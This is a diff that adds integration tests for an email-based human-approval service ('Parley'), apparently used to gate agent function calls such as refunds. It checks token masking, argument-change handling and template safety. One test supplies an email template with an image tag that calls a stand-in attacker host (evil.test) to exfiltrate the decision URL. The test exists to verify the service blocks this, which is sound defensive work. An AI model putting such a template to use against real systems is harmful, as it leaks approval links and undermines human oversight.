@@ -1,0 +1,169 @@
+import type { Approval } from "@parley/contract";
+import { openMailServer, readTaken, replyTo } from "@parley/channels/testing";
+import { databases } from "@parley/db/testing";
+import { sql } from "kysely";
+import { createHmac } from "node:crypto";
+import { afterEach, describe, expect, test } from "vitest";
+import { openTestApp } from "../../testing/open-test-app.ts";
+import { createJobHandlers } from "../../worker.ts";
+
+const open_: AsyncDisposable[] = [];
+afterEach(async () => {
+  for (const one of open_.splice(0).toReversed()) await one[Symbol.asyncDispose]();
+});
+const later = <T extends AsyncDisposable>(one: T): T => {
+  open_.push(one);
+  return one;
+};
+
+const key = Buffer.from("a secret of twenty-four bytes");
+const patience = { timeout: 60_000, interval: 50 };
+
+describe.each(databases)("what a mail may decide on $name", ({ open }) => {
+  /** Ana, who may approve, and a channel of mail with a real SMTP server. */
+  const openApp = async () => {
+    const app = later(await openTestApp({ open, environment: { PARLEY_EGRESS_ALLOW: "127.0.0.1/32" } }));
+    const smtp = later(await openMailServer());
+    const { executor } = app.services.database;
+    await sql`insert into users (id, name, email, email_verified, two_factor_enabled, created_at, updated_at)
+      values ('ana', 'Ana', 'ana@example.com', true, false, 1, 1)`.execute(executor);
+    await sql`insert into members (organization_id, user_id, role, created_at, updated_at)
+      values (${app.organizationId}, 'ana', 'reviewer', 1, 1)`.execute(executor);
+    const made = await app.ask<{ id: string; inbound_url: string }>("POST", "/v5/channels", {
+      kind: "email",
+      name: "mail",
+      settings: {
+        from: "Parley <parley@parley.test>",
+        reply_address: "parley@parley.test",
+        authserv_ids: ["mx.parley.test"],
+        smtp: { host: "127.0.0.1", port: smtp.port, security: "none", username: smtp.user },
+        inbound: "generic",
+      },
+      secrets: { smtp_password: smtp.password, inbound_secret: `whsec_${key.toString("base64")}` },
+    });
+    expect(made.status).toBe(201);
+    const asker = await app.createKey(["approve-request", "read"]);
+    const work = () => app.services.jobs.runDue({ handlers: createJobHandlers(app.services) });
+    let answers = 0;
+    return {
+      ...app,
+      smtp,
+      work,
+      get: async (id: string) => (await app.ask<Approval>("GET", `/v5/approvals/${id}`)).body,
+      request: async (body: object = {}) =>
+        (
+          await app.askAs<Approval>(asker, "POST", "/v5/approvals", {
+            kind: "function_call",
+            name: "refund",
+            args: { order: "A-7", eur: 10 },
+            plan: { steps: [{ who: { channel: "email:ana@example.com" } }] },
+            ...body,
+          })
+        ).body,
+      /** The mail with this number, once it is there. */
+      async mail(index: number) {
+        await expect.poll(async () => (await work(), smtp.mails.length), patience).toBeGreaterThan(index);
+        const taken = smtp.mails[index];
+        if (taken === undefined) throw new Error(`there is no mail ${index}`);
+        return { taken, ...(await readTaken(taken)) };
+      },
+      /** Has Ana answer one of the mails. */
+      async answer(taken: Parameters<typeof replyTo>[0], text: string) {
+        answers += 1;
+        const { raw } = await replyTo(taken, { text, messageId: `<answer-${answers}@example.com>` });
+        const body = JSON.stringify({ raw: Buffer.from(raw).toString("base64") });
+        const time = String(Math.floor(app.services.clock() / 1000));
+        const signature = createHmac("sha256", key).update(`m${answers}.${time}.${body}`).digest("base64");
+        const { pathname } = new URL(made.body.inbound_url);
+        const headers = {
+          "webhook-id": `m${answers}`,
+          "webhook-timestamp": time,
+          "webhook-signature": `v1,${signature}`,
+        };
+        const url = `http://parley.test${pathname}/mail`;
+        const taken_ = await app.app.fetch(new Request(url, { method: "POST", body, headers }));
+        expect(taken_.status).toBe(200);
+        await work();
+      },
+    };
+  };
+
+  test("the links by which people decide are not in the log of deliveries", async () => {
+    const app = await openApp();
+    const { id } = await app.request();
+    const { text } = await app.mail(0);
+    const [, token = ""] = /\/decide\/([\w-]+)/u.exec(text ?? "") ?? [];
+    expect(token.length).toBeGreaterThan(20);
+    const log = () => app.ask<object[]>("GET", `/v5/approvals/${id}/deliveries`);
+    await expect
+      .poll(async () => (await app.work(), JSON.stringify((await log()).body)), patience)
+      .toContain("/decide/•••");
+    expect(JSON.stringify((await log()).body)).not.toContain(token);
+  });
+
+  test("a yes is to the arguments that the mail showed; changed ones are shown in another", async () => {
+    const app = await openApp();
+    const { id } = await app.request({
+      editable: true,
+      plan: { steps: [{ who: { all: [{ channel: "email:ana@example.com" }, { anyone: true }] } }] },
+    });
+    const asked = await app.mail(0);
+    const { args_hash: shown } = await app.get(id);
+    const edited = await app.ask("POST", `/v5/approvals/${id}/approve`, {
+      args_hash: shown,
+      args: { order: "A-7", eur: 10_000 },
+    });
+    expect(edited.status).toBe(200);
+    const changed = await app.mail(1);
+    expect(changed.text).toContain("10000");
+    await app.answer(asked.taken, "Yes");
+    expect((await app.get(id)).outcome.status).toBe("pending");
+    await app.answer(changed.taken, "Yes");
+    expect((await app.get(id)).outcome).toMatchObject({ status: "approved" });
+  });
+
+  test("a template of the request's gets nobody's own link, and a yes to it approves nothing", async () => {
+    const app = await openApp();
+    const ask = async (call: string) => {
+      const asked = await app.app.fetch(
+        new Request("http://parley.test/humanlayer/v1/function_calls", {
+          method: "POST",
+          headers: { authorization: `Bearer ${app.apiKey}`, "content-type": "application/json" },
+          body: JSON.stringify({
+            run_id: "run-1",
+            call_id: call,
+            spec: {
+              fn: "refund",
+              kwargs: { eur: 10 },
+              channel: {
+                email: {
+                  address: "ana@example.com",
+                  template: `<p>Lunch?</p><img src="https://evil.test/?{{ urls.base_url }}">`,
+                },
+              },
+            },
+          }),
+        }),
+      );
+      expect(asked.status).toBe(200);
+    };
+    const status = async (call: string) => {
+      const { rows } = await sql<{ status: string }>`select status from approvals where call_id = ${call}`.execute(
+        app.services.database.executor,
+      );
+      return rows[0]?.status;
+    };
+    await ask("call-1");
+    const mail = await app.mail(0);
+    expect(mail.html).toContain("approvals&#x2f;");
+    expect(mail.html).not.toContain("decide");
+    await app.answer(mail.taken, "Yes");
+    expect(await status("call-1")).toBe("pending");
+    const back = await app.mail(1);
+    expect(back.text).toContain("Nothing was decided");
+    expect(back.text).toContain("/decide/");
+    expect(back.html).not.toContain("Lunch");
+    await app.answer(mail.taken, "No");
+    expect(await status("call-1")).toBe("denied");
+  });
+});
